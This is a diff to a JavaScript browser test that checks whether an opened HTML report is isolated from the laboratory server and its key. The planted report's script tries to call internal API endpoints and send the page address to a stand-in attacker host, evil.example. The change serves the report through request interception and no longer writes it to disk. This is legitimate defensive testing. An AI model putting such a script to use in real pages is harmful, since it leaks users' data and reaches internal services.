@@ -167,8 +167,9 @@ test('a report sees neither the key nor the laboratory', async () => {
     Promise.all([asked('${lab.url}api/about'), asked('${lab.url}api/runs', { method: 'POST', body: '{}' }), asked('http://evil.example/?' + location.href)])
       .then((answers) => { found.answers = answers; document.title = JSON.stringify(found) });
   </script>`;
-  writeFileSync(join(root, told, 'report.html'), prey);
   const visitor = await visit(lab);
+  // whoever made the folder has its checksums right: what the server says of a report is kept, what stands in it is replaced on the way
+  await visitor.context.route('**/report.html*', async (route) => route.fulfill({ response: await route.fetch(), body: prey }));
   await visitor.go(`run/${told}`);
   const [report] = await Promise.all([visitor.context.waitForEvent('page'), visitor.page.getByRole('button', { name: 'Report' }).click()]);
   await until(async () => (await report.title()).startsWith('{'));
